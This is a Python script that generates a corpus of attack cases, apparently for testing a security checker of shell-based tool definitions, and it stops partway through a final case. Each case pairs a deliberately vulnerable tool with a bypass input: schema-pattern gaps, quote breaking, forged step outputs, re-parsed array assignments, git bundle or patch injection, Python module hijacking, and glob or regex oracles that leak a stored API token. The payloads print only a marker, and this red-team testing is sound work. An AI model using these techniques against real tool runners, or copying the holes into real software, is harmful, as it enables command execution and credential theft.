#!/usr/bin/env python3
"""Writes blind34r12/attacks/NNN-name.yaml + .json (written for this round, from the docs only)."""
import base64, hashlib, io, json, os, subprocess, tarfile, tempfile, zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "attacks")
ENV = {**os.environ, "HOME": os.path.join(HERE, "home"), "XDG_CONFIG_HOME": os.path.join(HERE, "xdg-config"),
       "XDG_STATE_HOME": os.path.join(HERE, "xdg-state"), "GIT_CONFIG_NOSYSTEM": "1",
       "GIT_AUTHOR_NAME": "Contrib", "GIT_AUTHOR_EMAIL": "c@example.com",
       "GIT_COMMITTER_NAME": "Contrib", "GIT_COMMITTER_EMAIL": "c@example.com"}
CMD = "$(echo HARBOR-PWNED-$((6*7)) >&2)"           # command substitution, marker computed at run time
SQ = "a'" + CMD + "'b"                              # leaves a single-quoted string, runs CMD, re-enters
SEDP = "x/p;1s/.*/echo HARBOR-PWNED-$((6*7))/ep;/y"  # GNU sed: closes an address, s///e runs a command
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
ATT = []


def A(name, cls, y, args, why, **extra):
    ATT.append((name, cls, y.strip() + "\n", args, why, extra))


def b64(b):
    return base64.b64encode(b).decode()


def make_zip(members):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w") as z:
        for n, d in members:
            z.writestr(n, d)
    return bio.getvalue()


def make_tgz(members):
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz") as t:
        for n, d in members:
            ti = tarfile.TarInfo(n)
            ti.size = len(d)
            t.addfile(ti, io.BytesIO(d))
    return bio.getvalue()


def make_bundle(files, message):
    """a git bundle of one commit (files, message) on refs/heads/main"""
    d = tempfile.mkdtemp(prefix="r12bundle-")
    g = lambda *a: subprocess.run(["git", *a], cwd=d, env=ENV, check=True, capture_output=True)
    g("init", "-q", "-b", "main")
    for n, c in files.items():
        os.makedirs(os.path.dirname(os.path.join(d, n)) or d, exist_ok=True)
        open(os.path.join(d, n), "w").write(c)
    g("add", "-A")
    g("commit", "-qm", message)
    g("bundle", "create", "x.bundle", "main")
    data = open(os.path.join(d, "x.bundle"), "rb").read()
    head = subprocess.run(["git", "rev-parse", "HEAD"], cwd=d, env=ENV, capture_output=True, text=True).stdout.strip()
    subprocess.run(["rm", "-rf", d])
    return data, head


GLOBS = "\n".join("?" * i + c + "*" for i in range(20) for c in "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")
REGEXES = "\n".join("^.{%d}%s" % (i, c) for i in range(20) for c in "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")
PYCODE = b"print('HARBOR-PWNED-' + str(6*7))\n"
PYLINE = "print('HARBOR-PWNED-' + str(6*7))"

# ------------------------------------------------------------ schema-combinator-pattern
A("release-notes-anyof", "schema-combinator-pattern", r'''
name: release_notes
description: Show the release notes of one version (or of the latest release).
args:
  version:
    type: string
    maxLength: 64
    description: "A version such as 1.4.2, or latest."
    anyOf:
      - pattern: "[0-9]+\\.[0-9]+\\.[0-9]+"
      - enum: [latest]
required: [version]
steps:
  - name: show
    run: |
      if [ "{{ args.version }}" = latest ]; then
        f=$(ls releases | sort -V | tail -n 1)
      else
        f="notes-{{ args.version }}.txt"
      fi
      cat -- "releases/$f"
''', {"version": "1.4.2" + CMD}, "The pattern sits inside anyOf, where plain JSON Schema applies it with re.search (the whole-value rule is documented for `pattern` of the arg); a value that merely contains 1.4.2 passes, and the raw placeholder inside double quotes runs its $(...).")

A("deploy-env-allof", "schema-combinator-pattern", r'''
name: env_replicas
description: Print the replica count configured for one deployment environment.
args:
  env:
    type: string
    description: "Environment name: lower-case letters, digits and dashes (e.g. staging)."
    allOf:
      - pattern: "[a-z0-9-]+"
      - maxLength: 40
required: [env]
steps:
  - name: replicas
    run: |
      grep -h '^replicas:' deploy/envs/{{ args.env }}.yaml
''', {"env": "staging" + CMD}, "The author composes the constraints with allOf and relies on the documented whole-value pattern match; inside allOf it is JSON Schema's search, so a value containing a lower-case word passes and the unquoted raw placeholder runs the command substitution.")

A("since-oneof", "schema-combinator-pattern", r'''
name: recent_commits
description: Commits newer than an age (7d, 12h) or than a tag.
args:
  since:
    type: string
    maxLength: 64
    description: "An age such as 7d or 12h, or a version tag such as v1.4.2."
    oneOf:
      - pattern: "[0-9]+[dhw]"
      - pattern: "v[0-9]+(\\.[0-9]+)*"
required: [since]
steps:
  - name: log
    run: |
      case "{{ args.since }}" in
        v*) git log --oneline "{{ args.since }}..HEAD" ;;
        *) git log --oneline --since="{{ args.since }} ago" ;;
      esac
''', {"since": "7d" + CMD}, "Each alternative of oneOf is a partial (search) match in plain JSON Schema; '7d$(…)' matches exactly one of them, so it passes, and the raw placeholder in double quotes runs it.")

A("head-size-anyof-types", "schema-combinator-pattern", r'''
name: log_head
description: The first bytes of the application log, as a byte count (512) or with a unit (4K, 1M).
args:
  size:
    description: "A byte count such as 512, or a size with a unit such as 4K or 1M."
    anyOf:
      - {type: integer, minimum: 1}
      - {type: string, maxLength: 40, pattern: "[0-9]+[KM]"}
required: [size]
steps:
  - name: head
    run: |
      head -c {{ args.size }} -- logs/app.log
''', {"size": "4K" + CMD}, "A number or a sized string, written as anyOf of two typed branches: the string branch's pattern is JSON Schema's search, so '4K$(…)' passes, and the unquoted raw placeholder runs it.")

A("ref-if-then", "schema-combinator-pattern", r'''
name: show_ref
description: One-line summary of a version tag or a commit.
args:
  ref:
    type: string
    maxLength: 64
    description: "A version tag (v1.4.2) or a commit id (7 to 40 hex digits)."
    if: {pattern: "^v"}
    then: {pattern: "^v[0-9]+(\\.[0-9]+)*$"}
    else: {pattern: "[0-9a-f]{7,40}"}
required: [ref]
steps:
  - name: show
    run: |
      git log -1 --format='%h %s' "{{ args.ref }}^{commit}"
''', {"ref": "abc1234" + CMD}, "then: is anchored but else: relies on the whole-value rule; inside else JSON Schema searches, so any value that does not start with v and contains seven hex digits passes, and the raw placeholder in double quotes runs it.")

# ------------------------------------------------------------ nested-json-raw
A("labels-object", "nested-json-raw", r'''
name: render_labels
description: Render deployment labels as key=value lines.
args:
  labels:
    type: object
    maxProperties: 10
    description: "Labels: lower-case keys, values of letters, digits, '.', '_' and '-'."
    propertyNames: {pattern: "[a-z][a-z0-9_-]*"}
    additionalProperties: {type: string, pattern: "[A-Za-z0-9._-]+"}
required: [labels]
steps:
  - name: render
    run: |
      jq -r 'to_entries[] | "\(.key)=\(.value)"' <<< '{{ args.labels }}'
''', {"labels": {SQ: "web"}}, "The object renders as compact JSON in single quotes; its keys and values are constrained only by nested patterns (propertyNames, additionalProperties), which JSON Schema applies as a search, so a key holding ' closes the quotes and runs the command substitution.")

A("range-prefixitems", "nested-json-raw", r'''
name: log_lines
description: Print a range of lines (from, to) of the application log.
args:
  range:
    type: array
    minItems: 2
    description: "[from, to]: two line numbers, from >= 0."
    prefixItems:
      - {type: integer, minimum: 0}
      - {type: integer, minimum: 0}
required: [range]
steps:
  - name: lines
    run: |
      jq -r '{{ args.range }} | "\(.[0]),\(.[1])p"' -n > "$HARBOR_RUN_DIR/expr"
      sed -n -f "$HARBOR_RUN_DIR/expr" logs/app.log
''', {"range": [1, 3, SQ]}, "prefixItems constrains only the first two items and, without items: false or maxItems, any further item is allowed; a third string item carries a ' that ends the single-quoted jq program and runs the command substitution.")

A("filters-extra-keys", "nested-json-raw", r'''
name: filter_logs
description: Count log lines per level and service, filtered by an object of choices.
args:
  filters:
    type: object
    description: "Filters: level (info, warn, error) and service (web, api, worker)."
    properties:
      level: {enum: [INFO, WARN, ERROR]}
      service: {enum: [web, api, worker]}
required: [filters]
steps:
  - name: count
    run: |
      printf '%s\n' '{{ args.filters }}' > "$HARBOR_RUN_DIR/filters.json"
      jq -r '.level // "ERROR"' "$HARBOR_RUN_DIR/filters.json" | while IFS= read -r lvl; do
        grep -c -F -e "$lvl" -- logs/app.log || true
      done
''', {"filters": {"level": "ERROR", SQ: 1}}, "Every declared property is an enum, so the object looks like the author's words, but additionalProperties defaults to true: an extra key holding ' leaves the single-quoted word and runs the command substitution.")

A("order-items-objects", "nested-json-raw", r'''
name: order_total
description: Total quantity of an order given as a list of {sku, qty}.
args:
  lines:
    type: array
    maxItems: 50
    description: "Order lines: sku is upper-case letters, digits and dashes; qty >= 1."
    items:
      type: object
      additionalProperties: false
      required: [sku, qty]
      properties:
        sku: {type: string, pattern: "[A-Z0-9-]+"}
        qty: {type: integer, minimum: 1}
required: [lines]
steps:
  - name: total
    run: |
      jq -n '{{ args.lines }} | map(.qty) | add'
''', {"lines": [{"sku": "AB-1" + SQ.replace("a'", "'"), "qty": 2}]}, "additionalProperties: false fixes the keys and qty is a number, but sku's pattern is nested two levels down where it is a search: 'AB-1'$(…)'b' passes and ends the single-quoted jq program.")

A("limits-patternprops", "nested-json-raw", r'''
name: check_limits
description: Compare the worker count with per-section limits.
args:
  limits:
    type: object
    description: "Limits per config section: lower-case section names, non-negative integers."
    patternProperties:
      "^[a-z]+$": {type: integer, minimum: 0}
required: [limits]
steps:
  - name: compare
    run: |
      workers=$(grep -m1 '^workers' config/app.ini | tr -dc '0-9')
      jq -r --argjson w "$workers" '{{ args.limits }} | to_entries[] | "\(.key): limit \(.value), workers \($w)"' -n
''', {"limits": {"server": 8, SQ: 1}}, "patternProperties constrains only the keys that match it; a key that does not match is unconstrained (additionalProperties defaults to true), so a key with ' breaks the single-quoted jq program.")

# ------------------------------------------------------------ step-output-key-forge
A("changelog-multiline-notes", "step-output-key-forge", r'''
name: release_summary
description: Record the current release and the caller's notes, then print that release's changelog section.
args:
  notes: {type: string, multiline: true, maxLength: 2000, description: "Free-form release notes."}
required: [notes]
steps:
  - name: meta
    run: |
      echo "version=$(git describe --tags --abbrev=0)" >> "$HARBOR_STEP_OUTPUT"
      printf 'notes=%s\n' "$ARG_notes" >> "$HARBOR_STEP_OUTPUT"
  - name: changelog
    run: |
      v="${STEP_meta_version#v}"
      sed -n "/^## ${v}\$/,/^## /p" CHANGELOG.md
''', {"notes": "ship it\nversion=" + SEDP}, "The version key is written only from git describe (the author's text), but the notes key of the same step is multi-line: its second line defines version again, the later line wins, and the forged value is a sed program with s///e.")

A("xpg-echo-title", "step-output-key-forge", r'''
name: tag_report
description: Record a report title and the latest tag, then show that tag's notes.
args:
  title: {type: string, maxLength: 200, description: "A title for the report."}
required: [title]
steps:
  - name: meta
    run: |
      shopt -s xpg_echo
      echo "Preparing report...\n" >&2
      echo "tag=$(git describe --tags --abbrev=0)" >> "$HARBOR_STEP_OUTPUT"
      echo "title=$ARG_title" >> "$HARBOR_STEP_OUTPUT"
  - name: notes
    run: |
      sed -n "/^## ${STEP_meta_tag#v}\$/,/^## /p" CHANGELOG.md
''', {"title": "Weekly\\ntag=" + SEDP}, "With xpg_echo set (for the \\n in the author's message), `echo \"title=$ARG_title\"` expands the caller's \\n into a line break, so a one-line value writes a second tag= line that overrides the clean tag output used in a sed program.")

A("echo-e-owner", "step-output-key-forge", r'''
name: owner_report
description: Record the requesting owner and the latest tag; show the changelog of that tag.
args:
  owner: {type: string, maxLength: 100, description: "Who asks for the report."}
required: [owner]
steps:
  - name: meta
    run: |
      echo "tag=$(git describe --tags --abbrev=0)" >> "$HARBOR_STEP_OUTPUT"
      echo -e "owner=$ARG_owner\tat $(date -u +%FT%TZ)" >> "$HARBOR_STEP_OUTPUT"
  - name: notes
    run: |
      sed -n "/^## ${STEP_meta_tag#v}\$/,/^## /p" CHANGELOG.md
''', {"owner": "alice\\ntag=" + SEDP}, "echo -e turns the caller's \\n into a line break inside the step output, forging a later tag= line; the checker's model of `echo \"key=$v\"` holding exactly $v misses the escape processing.")

A("heredoc-delim-summary", "step-output-key-forge", r'''
name: build_summary
description: Record the build's version and a multi-line summary; print the changelog of that version.
args:
  summary: {type: string, multiline: true, maxLength: 4000, description: "Build summary (several lines)."}
required: [summary]
steps:
  - name: meta
    run: |
      echo "version=$(git describe --tags --abbrev=0)" >> "$HARBOR_STEP_OUTPUT"
      { echo "summary<<EOF"; printf '%s\n' "$ARG_summary"; echo "EOF"; } >> "$HARBOR_STEP_OUTPUT"
  - name: changelog
    run: |
      sed -n "/^## ${STEP_meta_version#v}\$/,/^## /p" CHANGELOG.md
''', {"summary": "all green\nEOF\nversion=" + SEDP + "\nrest<<EOF"}, "A summary line EOF closes the heredoc-style output early; the next line forges version=, and the author's closing EOF ends a new key, so the clean version output is overridden.")

# ------------------------------------------------------------ quoted-value-reexpanded
A("xpg-echo-printf-q-source", "quoted-value-reexpanded", r'''
name: save_title
description: Save a title for later steps and print it with the branch name.
args:
  title: {type: string, maxLength: 200, description: "A title."}
required: [title]
steps:
  - name: save
    run: |
      shopt -s xpg_echo
      printf -v q '%q' "$ARG_title"
      echo "TITLE=$q" > "$HARBOR_RUN_DIR/vars.sh"
      echo "saved\n"
  - name: show
    run: |
      . "$HARBOR_RUN_DIR/vars.sh"
      printf '%s on %s\n' "$TITLE" "$(git branch --show-current)"
''', {"title": "a\t\\';echo HARBOR-PWNED-$((6*7));#"}, "A TAB makes printf %q use $'…' quoting; echo under xpg_echo then halves the doubled backslash, so the sourced line reads $'a<TAB>\\\\' followed by a bare ';echo …': the %q word no longer lands as one word.")

A("echo-e-q-env-file", "quoted-value-reexpanded", r'''
name: pin_branch
description: Remember a branch name for the next step, then show its last commit.
args:
  branch: {type: string, maxLength: 200, description: "A branch name."}
required: [branch]
steps:
  - name: save
    run: |
      printf -v q '%q' "$ARG_branch"
      echo -e "BRANCH=$q\nSTAMP=$(date +%s)" > "$HARBOR_RUN_DIR/branch.env"
  - name: show
    run: |
      source "$HARBOR_RUN_DIR/branch.env"
      git log -1 --oneline -- . 2>/dev/null | head -n 1
      printf 'branch: %s\n' "$BRANCH"
''', {"branch": "main\t\\';echo HARBOR-PWNED-$((6*7));#"}, "echo -e re-processes backslashes in the %q-quoted value: $'main\\t\\\\\\'…' becomes $'main<TAB>\\\\'…, whose quote closes early when sourced.")

A("xpg-echo-at-q-eval", "quoted-value-reexpanded", r'''
name: grep_message
description: Search commit messages for a phrase.
args:
  phrase: {type: string, maxLength: 200, description: "Text to look for in commit messages."}
required: [phrase]
steps:
  - name: search
    run: |
      shopt -s xpg_echo
      cmd="git log --oneline --fixed-strings --grep=${ARG_phrase@Q}"
      echo "$cmd" > "$HARBOR_RUN_DIR/cmd"
      eval "$(cat "$HARBOR_RUN_DIR/cmd")" || true
''', {"phrase": "fix\t\\';echo HARBOR-PWNED-$((6*7));#"}, "${x@Q} of a value with a TAB is $'…' with a doubled backslash; echo under xpg_echo halves it, so the command read back and eval'd has a quote that closes early and a bare ';echo …'.")

# ------------------------------------------------------------ declare-compound-reparse
A("tags-declare-a", "declare-compound-reparse", r'''
name: tag_exists
description: Say which of the given tags exist in the repository.
args:
  tags:
    type: array
    maxItems: 20
    items: {type: string, maxLength: 100}
    description: "Tag names."
required: [tags]
steps:
  - name: check
    run: |
      declare -a wanted="($(jq -r '.[]' <<< "$ARG_tags"))"
      for t in "${wanted[@]}"; do
        if git rev-parse -q --verify "refs/tags/$t" >/dev/null; then echo "yes $t"; else echo "no $t"; fi
      done
''', {"tags": ["v1.4.2", CMD]}, "declare -a NAME=\"(…)\" with a quoted compound value parses the expanded text again as an array assignment, so $(…) in an item (jq's raw output) runs; to a checker the value is data assigned to a literal name.")

A("words-local-a", "declare-compound-reparse", r'''
name: find_words
description: Count how many log lines contain each word of a query.
args:
  query: {type: string, maxLength: 200, description: "Words separated by spaces."}
required: [query]
steps:
  - name: count
    run: |
      count_words() {
        local -a words="($1)"
        local w
        for w in "${words[@]}"; do
          printf '%s: %s\n' "$w" "$(grep -c -F -e "$w" -- logs/app.log || true)"
        done
      }
      count_words "$ARG_query"
''', {"query": "ERROR " + CMD}, "local -a words=\"($1)\" splits the query by re-parsing it as a compound assignment, which also performs command substitution inside it.")

A("limits-declare-A", "declare-compound-reparse", r'''
name: service_limits
description: Print the limit of each service from an object of limits.
args:
  limits:
    type: object
    maxProperties: 20
    additionalProperties: {type: integer, minimum: 0}
    description: "Limits per service name."
required: [limits]
steps:
  - name: show
    run: |
      declare -A lim="($(jq -r 'to_entries[] | "[\(.key)]=\(.value)"' <<< "$ARG_limits"))"
      for s in "${!lim[@]}"; do printf '%s=%s\n' "$s" "${lim[$s]}"; done
''', {"limits": {"web": 2, CMD: 3}}, "The associative array is filled by re-parsing jq's output as a compound assignment; a key of the caller's object holding $(…) is a subscript there, and it runs.")

A("services-readonly-a", "declare-compound-reparse", r'''
name: list_services
description: List the services of a comma-separated list with their log line counts.
args:
  services: {type: string, maxLength: 200, description: "Comma-separated service names."}
required: [services]
steps:
  - name: list
    run: |
      readonly -a SERVICES="(${ARG_services//,/ })"
      for s in "${SERVICES[@]}"; do
        printf '%s %s\n' "$s" "$(grep -c -F -e "$s" -- logs/app.log || true)"
      done
''', {"services": "web," + CMD}, "readonly -a with a quoted \"(…)\" value re-parses the rewritten text as a compound assignment: the $(…) in the caller's list runs.")

# ------------------------------------------------------------ git-objects-from-caller
BUNDLE1, HEAD1 = make_bundle({"NOTE.md": "contrib\n"}, SEDP)
A("bundle-fetch-subject", "git-objects-from-caller", r'''
name: review_bundle
description: Fetch a contributor's git bundle and print the changelog section its commit names.
args:
  bundle:
    type: string
    contentEncoding: base64
    contentMediaType: application/octet-stream
    description: "A git bundle (git bundle create x.bundle main)."
required: [bundle]
steps:
  - name: fetch
    run: git fetch --quiet --no-tags -- "$ARG_bundle" main
  - name: section
    run: |
      subject=$(git log -1 --format=%s FETCH_HEAD)
      sed -n "/^## ${subject}\$/,/^## /p" CHANGELOG.md
''', {"bundle": b64(BUNDLE1)}, "git log prints only what the repository holds, which the docs take to be the author's unless a step commits, tags or adds notes; git fetch of the caller's bundle puts the caller's commit message there, and it becomes a sed program with s///e.")

BUNDLE2, HEAD2 = make_bundle({"NOTE.md": "contrib\n"}, SEDP)
A("unbundle-commit-subject", "git-objects-from-caller", r'''
name: import_bundle
description: Import the objects of a bundle, then print the changelog section named by a commit's subject.
args:
  bundle:
    type: string
    contentEncoding: base64
    contentMediaType: application/octet-stream
    description: "A git bundle."
  commit: {type: string, pattern: "^[0-9a-f]{7,40}$", description: "A commit id."}
required: [bundle, commit]
steps:
  - name: import
    run: git bundle unbundle "$ARG_bundle" >/dev/null
  - name: section
    run: |
      subject=$(git log -1 --format=%s "$ARG_commit")
      sed -n "/^## ${subject}\$/,/^## /p" CHANGELOG.md
''', {"bundle": b64(BUNDLE2), "commit": HEAD2}, "git log with a revision the caller chose is documented as clean (one word, no %S); git bundle unbundle wrote the caller's commit into the object store, so its subject is the caller's sed program.")

BUNDLE3, HEAD3 = make_bundle({"scripts/report.sh": "echo HARBOR-PWNED-$((6*7))\n"}, "report")
A("bundle-run-report-script", "git-objects-from-caller", r'''
name: report_at_revision
description: Fetch a contributor bundle, then run the project's report script as it is at a revision.
args:
  bundle:
    type: string
    contentEncoding: base64
    contentMediaType: application/octet-stream
    description: "A git bundle with the contributor's branch."
  rev: {type: string, pattern: "^[A-Za-z0-9._/^~-]+$", default: "HEAD", description: "The revision whose report script runs."}
required: [bundle]
steps:
  - name: fetch
    run: git fetch --quiet --no-tags -- "$ARG_bundle" main
  - name: report
    run: |
      git show "$ARG_rev:scripts/report.sh" | bash -s -- --summary
''', {"bundle": b64(BUNDLE3), "rev": "FETCH_HEAD"}, "The script piped into bash is git show's output of the author's file at a revision, which the docs call the author's; after git fetch the revision FETCH_HEAD holds the caller's version of that file.")

PATCH = ("diff --git a/scripts/report.sh b/scripts/report.sh\n--- a/scripts/report.sh\n+++ b/scripts/report.sh\n"
         "@@ -1,2 +1,2 @@\n #!/bin/sh\n-printf \"%s argv:\" \"$0\"; for a in \"$@\"; do printf \" [%s]\" \"$a\"; done; echo\n"
         "+echo HARBOR-PWNED-$((6*7))\n")
A("apply-cached-index-script", "git-objects-from-caller", r'''
name: preview_patch
description: Stage a patch in the index (the working tree is left alone) and run the staged report script.
args:
  patch:
    type: string
    contentEncoding: base64
    contentMediaType: text/x-diff
    description: "A unified diff against the repository."
required: [patch]
steps:
  - name: stage
    run: git apply --cached -- "$ARG_patch"
  - name: report
    run: |
      git show :scripts/report.sh | sh -s -- --summary
      git reset -q
''', {"patch": b64(PATCH.encode())}, "`git show :path` reads the index; git apply --cached writes the caller's patch there without touching the working folder, and the staged script (the 'author's file') is piped into sh.")

# ------------------------------------------------------------ secret-match-oracle
A("token-glob-candidates", "secret-match-oracle", SEC + r'''
name: which_token
description: Tell which of the candidate token names or patterns (such as ci-*) matches the configured API token.
args:
  candidates: {type: string, multiline: true, maxLength: 100000, description: "One candidate per line; shell patterns allowed."}
required: [candidates]
steps:
  - name: match
    run: |
      while IFS= read -r cand; do
        if [[ $API_TOKEN == $cand ]]; then echo "match: $cand"; fi
      done <<< "$ARG_candidates"
''', {"candidates": GLOBS}, "The secret is compared with ==, but the right side is an unquoted variable, so it is a pattern: one call with positional patterns (??c*) spells the whole token back through which ones matched.")

A("token-case-pattern", "secret-match-oracle", SEC + r'''
name: token_kind
description: Classify the configured API token against caller-provided naming patterns.
args:
  patterns: {type: array, maxItems: 2000, items: {type: string, maxLength: 40}, description: "Shell patterns."}
required: [patterns]
steps:
  - name: classify
    run: |
      while IFS= read -r pat; do
        case "$API_TOKEN" in
          $pat) echo "match: $pat" ;;
        esac
      done < <(jq -r '.[]' <<< "$ARG_patterns")
''', {"patterns": GLOBS.split("\n")}, "A case pattern taken from a variable is a pattern, not an equality test; per-position patterns reveal every character of the secret in one call.")

A("token-regex-grep-q", "secret-match-oracle", SEC + r'''
name: token_format_check
description: Check the configured API token against format rules (regular expressions), printing the rules it satisfies.
args:
  rules: {type: string, multiline: true, maxLength: 100000, description: "One extended regular expression per line."}
required: [rules]
steps:
  - name: check
    run: |
      while IFS= read -r re; do
        if grep -q -E -e "$re" <<< "$API_TOKEN"; then echo "ok: $re"; fi
      done <<< "$ARG_rules"
''', {"rules": REGEXES}, "grep -q prints nothing of what it reads, but its exit status answers a caller regex about the secret; ^.{i}c for every position and character tells the token in one call.")

A("token-regex-match", "secret-match-oracle", SEC + r'''
name: token_policy
description: Report which of the given policies (regular expressions) the configured token matches.
args:
  policies: {type: string, multiline: true, maxLength: 100000, description: "One regular expression per line."}
required: [policies]
steps:
  - name: check
    run: |
      while IFS= read -r re; do
        if [[ $API_TOKEN =~ $re ]]; then echo "hit: $re"; fi
      done <<< "$ARG_policies"
''', {"policies": REGEXES}, "=~ with a caller regex in a variable: each answer is one bit about the secret, and positional regexes spell it out.")

A("token-chunk-digests", "secret-match-oracle", SEC + r'''
name: token_fingerprint
description: Fingerprint the configured token in chunks (sha256 of each chunk) so that two deployments can be compared without showing it.
args:
  chunk: {type: integer, minimum: 1, maximum: 64, default: 8, description: "Chunk length."}
steps:
  - name: fingerprint
    run: |
      n=${#API_TOKEN}
      for (( i = 0; i < n; i += ARG_chunk )); do
        printf '%s' "${API_TOKEN:i:ARG_chunk}" | sha256sum | cut -d' ' -f1
      done
''', {"chunk": 1}, "sha256sum is a credential place and the length is allowed; with chunk=1 each digest is of one character, so the digests spell the token after a 60-entry lookup.")

# ------------------------------------------------------------ oauth-claim-as-server
A("owner-sed-principal", "oauth-claim-as-server", r'''
name: my_changelog
description: Show the changelog entries that name the calling user.
steps:
  - name: mine
    run: |
      sed -n "/^$HARBOR_CALLER_PRINCIPAL:/p" CHANGELOG.md
''', {}, "HARBOR_CALLER_PRINCIPAL is in the registry as a server value, but with --auth oauth it is ISSUER:<principal claim>, e.g. preferred_username, which the user picks at the identity provider; it lands in a sed program.",
  caller={"HARBOR_CALLER_PRINCIPAL": "corp:" + SEDP})

A("audit-bash-c-principal", "oauth-claim-as-server", r'''
name: audited_report
description: Run the report script under a lock, tagged with who asked.
steps:
  - name: report
    run: |
      flock /tmp/harbor-report.lock bash -c "./scripts/report.sh --requested-by=$HARBOR_CALLER_PRINCIPAL"
''', {}, "The principal is treated as the server's text, so a bash -c script built with it is accepted; under OAuth the user's claimed username carries ';' and a command.",
  caller={"HARBOR_CALLER_PRINCIPAL": "corp:bob;echo HARBOR-PWNED-$((6*7))"})

# ------------------------------------------------------------ python-module-runs-file
ZIP_FAIL = make_zip([("zipfile.py", PYCODE), ("zipfile.py/x", b"x")])
A("zipfile-retry", "python-module-runs-file", r'''
name: restore_snapshot
description: Restore an uploaded zip snapshot into the workspace (retried on a transient failure).
args:
  snapshot:
    type: string
    contentEncoding: base64
    contentMediaType: application/zip
    description: "A zip archive."
required: [snapshot]
steps:
  - name: restore
    run: python3 -m zipfile -e "$ARG_snapshot" .
    retry: {attempts: 2, delay: 0}
''', {"snapshot": b64(ZIP_FAIL)}, "A command's own writes do not count against it, but retry runs the same command again: the first attempt extracts zipfile.py into the working folder and fails; the second attempt's python3 -m zipfile imports it from sys.path[0].")

ZIP_A = make_zip([("zipfile.py", PYCODE)])
ZIP_B = make_zip([("data/x.txt", b"x\n")])
A("zipfile-two-archives", "python-module-runs-file", r'''
name: restore_two
description: Restore a base snapshot and an overlay snapshot (both zip) into the workspace.
args:
  base: {type: string, contentEncoding: base64, contentMediaType: application/zip, description: "Base zip."}
  overlay: {type: string, contentEncoding: base64, contentMediaType: application/zip, description: "Overlay zip."}
required: [base, overlay]
steps:
  - name: restore
    run: |
      for z in "$ARG_base" "$ARG_overlay"; do
        python3 -m zipfile -e "$z" .
      done
''', {"base": b64(ZIP_A), "overlay": b64(ZIP_B)}, "The same command in a loop: the first extraction writes zipfile.py into the working folder, the second python3 -m zipfile imports it (sys.path[0] is the working folder).")

DOCTEST = ("Example\n=======\n\n>>> " + PYLINE + "\n").encode()
A("doctest-upload", "python-module-runs-file", r'''
name: check_examples
description: Check the Python examples (doctest format) in an uploaded text document.
args:
  doc:
    type: string
    contentEncoding: base64
    contentMediaType: text/plain
    description: "A text document with >>> examples."
required: [doc]
sandbox: {network: none}
steps:
  - name: doctest
    run: python3 -m doctest -v -- "$ARG_doc"
''', {"doc": b64(DOCTEST)}, "python3 gets the caller's file only after its program (-m doctest), the documented safe place, but doctest runs the >>> lines of its operand.")

A("pydoc-upload", "python-module-runs-file", r'''
name: module_doc
description: Show the documentation (pydoc) of an uploaded Python module.
args:
  module:
    type: string
    contentEncoding: base64
    contentMediaType: text/x-python
    description: "A Python source file."
required: [module]
sandbox: {network: none}
steps:
  - name: doc
    run: python3 -m pydoc "$ARG_module"
''', {"module": b64(PYCODE)}, "pydoc takes an operand with a '/' as a file to document and imports (runs) it; the attachment path always has one.")

# ------------------------------------------------------------ format-unchecked
A("notify-email-format", "format-unchecked", r'''
name: notify_owner
description: Record who is notified of the latest tag.
args:
  email: {type: string, format: email, maxLength: 200, description: "The owner's e-mail address."}
required: [email]
steps:
  - name: notify
    run: |
      tag=$(git describe --tags --abbrev=0)
      echo "notify {{ args.email }} about $tag" >> "$HARBOR_RUN_DIR/notify.log"
      cat "$HARBOR_RUN_DIR/notify.log"
''', {"email": "ops@example.com" + CMD}, "format: email is checked (if at all) as 'contains @'; the raw placeholder in double quotes runs the command substitution after the address.")

A("health-hostname-format", "format-unchecked", r'''
name: health_url
description: Print the health-check URL of a host.
args:
  host: {type: string, format: hostname, maxLength: 253, description: "A host name."}
required: [host]
steps:
  - name: url
    run: |
      printf '%s\n' http://{{ args.host }}:8080/health
''', {"host": "web1.internal" + CMD}, "format: hostname looks like a character class of letters, digits, dots and dashes, but JSON Schema validators only check it with an optional library (and 2020-12 says format is an annotation); the unquoted raw placeholder runs the substitution.")

# ------------------------------------------------------------ count-output-with-names
TGZ = make_tgz([("app.log", b"INFO ok\nERROR one\n"), ("a[" + CMD + "]+b[x.log", b"ERROR x\n")])
A("error-count-grep-c", "count-output-with-names", r'''
name: bundle_errors
description: Unpack an uploaded log bundle and fail when it holds more ERROR lines than allowed.
args:
  bundle: {type: string, contentEncoding: base64, contentMediaType: application/gzip, description: "A .tar.gz of log files."}
  max: {type: integer, minimum: 0, default: 10, description: "ERROR lines allowed."}
required: [bundle]
steps:
  - name: unpack
    run: |
      mkdir -p "$HARBOR_RUN_DIR/logs"
      tar -xzf "$ARG_bundle" -C "$HARBOR_RUN_DIR/logs"
  - name: count
    run: |
      cd "$HARBOR_RUN_DIR/logs"
      errors=$(grep -c -- ERROR *.log || true)
      if (( errors > ARG_max )); then echo "too many errors: $errors"; exit 1; fi
      echo "errors: $errors"
''', {"bundle": b64(TGZ), "max": 10}, "grep -c output is documented as a count 'whatever its words', but with several files it prints NAME:COUNT; a file name from the caller's archive holding a[$(…)] is evaluated as an indexed subscript in (( )).")

A("error-count-test-gt", "count-output-with-names", r'''
name: bundle_has_errors
description: Say whether an uploaded log bundle contains ERROR lines.
args:
  bundle: {type: string, contentEncoding: base64, contentMediaType: application/gzip, description: "A .tar.gz of log files."}
required: [bundle]
steps:
  - name: check
    run: |
      d="$HARBOR_RUN_DIR/unpacked"
      mkdir -p "$d" && tar -xzf "$ARG_bundle" -C "$d" && cd "$d"
      n=$(grep -c -F -e ERROR -- *.log || true)
      if [[ $n -gt 0 ]]; then echo "errors found"; else echo "clean"; fi
''', {"bundle": b64(TGZ)}, "[[ -gt ]] evaluates both sides as arithmetic; the 'count' from grep -c over several files carries a caller file name with a[$(…)], which runs.")

# ------------------------------------------------------------ env-literal-shadow
A("make-env-default", "env-literal-shadow", r'''
name: package
description: Package the project; the caller's target is shown, make gets the pinned default.
args:
  target: {type: string, maxLength: 100, description: "Which target to report on."}
required: [target]
steps:
  - name: package
    env: {ARG_target: app}
    run: |
      printf 'requested: %s\n' "$ARG_target"
      make -s package
